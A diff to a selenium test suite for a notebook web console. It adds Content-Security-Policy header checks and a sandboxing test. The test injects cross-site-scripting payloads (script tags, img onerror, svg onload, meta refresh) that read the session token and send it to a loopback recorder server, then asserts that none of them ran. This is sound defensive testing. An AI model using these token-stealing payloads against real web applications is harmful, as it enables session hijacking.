@@ -5,8 +5,11 @@ selenium; without them the test is skipped and says why. A screenshot of the pag
 is saved to tests/artifacts/web_console.png.
 """
 
+import http.server
 import shutil
+import threading
 import time
+import urllib.request
 from pathlib import Path
 
 import pytest
@@ -43,6 +46,44 @@ def browser(tmp_path):
         driver.quit()  # stops chromedriver and the browser it started
 
 
+@pytest.fixture
+def leak_server():
+    """A loopback HTTP server that records every request: where a stolen token would be sent."""
+    requests = []
+
+    class Recorder(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            requests.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", requests
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join(10)
+
+
+def test_the_page_and_its_files_come_with_a_strict_content_security_policy(service):
+    for path in ("/", "/console/static/console.js", "/console/static/console.css"):
+        with urllib.request.urlopen(service.api_url + path) as response:
+            policy = response.headers["Content-Security-Policy"]
+            assert response.headers["X-Content-Type-Options"] == "nosniff"
+            assert response.headers["Referrer-Policy"] == "no-referrer"
+        directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
+        assert directives["default-src"] == "'none'" and directives["script-src"] == "'self'"
+        assert directives["frame-ancestors"] == "'none'" and "unsafe-inline" not in policy
+
+
 def test_a_cell_typed_in_the_browser_runs_and_its_output_streams_in(service, client, browser):
     from selenium.webdriver.common.by import By
     from selenium.webdriver.common.keys import Keys
@@ -53,6 +94,8 @@ def test_a_cell_typed_in_the_browser_runs_and_its_output_streams_in(service, cli
     before = {nb["id"] for nb in client.notebooks()}
     browser.get(service.api_url + "/")
     wait.until(lambda b: page(By.TAG_NAME, "body").get_attribute("data-ready") == "1")
+    assert page(By.CSS_SELECTOR, ".brand").value_of_css_property("color") == "rgba(243, 119, 38, 1)", \
+        "console.css is allowed by the page's Content-Security-Policy"
     page(By.ID, "new-notebook").click()
     wait.until(lambda b: page(By.ID, "state").get_attribute("data-state") == "idle")
     created = {nb["id"] for nb in client.notebooks()} - before
@@ -101,7 +144,13 @@ def test_a_cell_typed_in_the_browser_runs_and_its_output_streams_in(service, cli
             "broken()")
         code.send_keys(Keys.SHIFT, Keys.ENTER)
         wait.until(lambda b: b.find_elements(By.CSS_SELECTOR, ".output.error pre"))
-        assert page(By.CSS_SELECTOR, "#rich b").text == "html"
+        browser.switch_to.frame(page(By.CSS_SELECTOR, ".output iframe.html"))  # HTML renders in its frame
+        try:
+            assert page(By.CSS_SELECTOR, "#rich b").text == "html"
+            assert page(By.CSS_SELECTOR, "#rich td").value_of_css_property("border-top-style") == "solid", \
+                "output.css is loaded into the frame"
+        finally:
+            browser.switch_to.default_content()
         image = page(By.CSS_SELECTOR, ".output img")
         assert image.get_attribute("src").startswith("data:image/png;base64,")
         assert browser.execute_script("return arguments[0].naturalWidth", image) == 1
@@ -158,3 +207,52 @@ def test_the_console_works_with_a_token_given_in_the_url_fragment(private_servic
     wait.until(lambda b: "behind a token" in " ".join(e.text for e in b.find_elements(By.CSS_SELECTOR,
                                                                                      ".cell .outputs")))
     page(By.ID, "delete").click()
+
+
+def test_no_script_in_an_output_runs_with_the_consoles_origin(private_service, browser, leak_server):
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.common.keys import Keys
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    leak_url, leaked = leak_server
+    private_service.start_supervisor(pool=1)
+    private_service.start_api(token="console-token")
+    wait = WebDriverWait(browser, 20, poll_frequency=0.05)
+    page = browser.find_element
+    browser.get(private_service.api_url + "/#token=console-token")
+    wait.until(lambda b: page(By.TAG_NAME, "body").get_attribute("data-ready") == "1")
+    page(By.ID, "new-notebook").click()
+    wait.until(lambda b: page(By.ID, "state").get_attribute("data-state") == "idle")
+    title = browser.title
+    # what a hostile output would do: send the token away, and write into the console's page
+    steal = (f"new Image().src='{leak_url}/token?'+encodeURIComponent(sessionStorage.getItem('taskkernel-token'));"
+             "try{top.document.title='pwned'}catch(e){};try{top.document.body.dataset.pwned='1'}catch(e){};"
+             "document.title='pwned';document.body.insertAdjacentHTML('beforeend','<p id=ran>ran</p>')")
+    html = (f'<p id="static">static html</p><script>{steal}</script><img src="data:," onerror="{steal}">'
+            f'<svg onload="{steal}"></svg><meta http-equiv="refresh" content="0;url={leak_url}/refresh">')
+    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="red"/>'
+           f'<script><![CDATA[{steal}]]></script></svg>')
+    code = (f"class Html:\n    def _repr_html_(self):\n        return {html!r}\n"
+            f"class Svg:\n    def _repr_svg_(self):\n        return {svg!r}\n"
+            f"class Js:\n    def _repr_javascript_(self):\n        return {steal!r}\n"
+            "display(Html()); display(Svg()); display(Js())")
+    browser.execute_script("document.getElementById('code').value = arguments[0];", code)
+    page(By.ID, "code").send_keys(Keys.SHIFT, Keys.ENTER)
+    wait.until(lambda b: b.find_elements(By.CSS_SELECTOR, ".cell[data-status='ok'] pre.javascript"))
+    time.sleep(1)  # what a script would send, it would have sent by now
+
+    assert leaked == [], "nothing reached the leak server"
+    assert browser.title == title and page(By.TAG_NAME, "body").get_attribute("data-pwned") is None
+    assert not browser.find_elements(By.ID, "ran")
+    frame = page(By.CSS_SELECTOR, ".output iframe.html")
+    assert frame.get_attribute("sandbox") == "", "no allow-scripts, no allow-same-origin"
+    svg_image = page(By.CSS_SELECTOR, ".output img")
+    assert svg_image.get_attribute("src").startswith("data:image/svg+xml")
+    wait.until(lambda b: b.execute_script("return arguments[0].naturalWidth", svg_image) == 40)
+    assert page(By.CSS_SELECTOR, "pre.javascript").text == steal, "JavaScript is shown, not run"
+    browser.switch_to.frame(frame)
+    try:
+        assert page(By.ID, "static").text == "static html"
+        assert not browser.find_elements(By.ID, "ran"), "the output's own scripts did not run either"
+    finally:
+        browser.switch_to.default_content()
